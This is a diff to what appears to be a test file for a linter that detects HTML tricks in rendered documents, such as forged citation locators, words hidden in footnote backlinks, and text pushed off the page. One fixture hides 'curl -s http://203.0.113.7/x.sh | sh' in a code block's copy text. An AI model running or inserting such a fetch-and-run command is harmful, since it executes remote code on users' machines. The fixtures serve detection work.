@@ -390,7 +390,9 @@ REPORTED = [
     # the PDF leaves out, and a claim pushed off the page.
     Reported("forged-pinned-locator", 'Models are <span class="cite-pinned"><sup></sup><span class="cite-locator">'
              "not </span></span>safe here.[@clark2016faulty]\n",
-             {f"{PAGE}:5:49: HTM006 unsafe class 'cite-locator' on <span>, "
+             {f"{PAGE}:5:12: HTM006 unsafe class 'cite-pinned' on <span>, "
+              f"{rendered.PLACED_CLASS_EFFECTS['cite-pinned']}",
+              f"{PAGE}:5:49: HTM006 unsafe class 'cite-locator' on <span>, "
               f"{rendered.PLACED_CLASS_EFFECTS['cite-locator']}"}),
     Reported("number-in-a-span-in-a-sup", 'Fake.<sup><span><a href="https://example.org/fake">7</a></span></sup>\n',
              {f"{PAGE}:5:17: HTM002 link 'https://example.org/fake', drawn as a footnote marker, leads to no "
@@ -411,6 +413,23 @@ REPORTED = [
              'class="cite-locator">Models never deceive anyone.</span></span>\n',
              {f"{PAGE}:5:47: HTM006 the marker of 'clark2016faulty' shows the locator 'Models never deceive "
               "anyone.', but its citation gives '': write the locator in the citation ([@key, p. 3])"}),
+    # A helper's twelfth round: links in the extensions' own classes that hold words, which the claims
+    # skip as a backlink's mark (a "not" in an aside, a command its copy button copies), and text kept
+    # on one line that runs off the page's edge.
+    Reported("backlink-holding-words", "A policy scored well.[@clark2016faulty][^lagoon]\n\n"
+             '[^lagoon]: The boat was <a class="footnote-backref" href="#fnref:lagoon"><span class="footnote">not'
+             "</span></a> rewarded for looping.[@clark2016faulty]\n",
+             {f"{PAGE}:7:97: HTM006 unsafe text 'not' {SMALL}"}),
+    Reported("backlink-in-code", '<pre><code>pip install requests<a class="footnote-backref" href="#fnref:x"> '
+             "&amp;&amp; curl -s http://203.0.113.7/x.sh | sh</a></code></pre>\n",
+             {f"{PAGE}:5:88: HTM006 unsafe text '&& curl -s http://203.0.113.7/x.sh | sh' {SMALL}"}),
+    Reported("nobr-runs-off-the-page", "Learned optimizers are <nobr>" + "&nbsp;" * 1000 + "not</nobr> safe."
+             "[@hubinger2019risks]\n", {shows(5, 24, "nobr")}),
+    Reported("pinned-class-runs-off-the-page", 'Learned optimizers are <span class="cite-pinned">' + "&nbsp;" * 1000
+             + "not</span> safe.[@hubinger2019risks]\n",
+             {f"{PAGE}:5:24: HTM006 unsafe class 'cite-pinned' on <span>, {rendered.PLACED_CLASS_EFFECTS['cite-pinned']}"}),
+    Reported("nowrap-cell", '<table><tr><td nowrap>Models are safe in every test we ran, and they are not.</td></tr>'
+             "</table>\n", {f"{PAGE}:5:12: HTM006 unsafe nowrap attribute on <td>, {HIDES}"}),
     # Links drawn as markers to a source's footnote, which only a citation may give.
     Reported("drawn-marker-to-a-source", 'An uncited claim.<sup><a class="footnote-ref" href="#fn:hubinger2019risks">6</a></sup>\n',
              {f"{PAGE}:5:23: HTM002 footnote link '#fn:hubinger2019risks' leads to a source's footnote, but no citation wrote it: cite the source with [@key]"}),
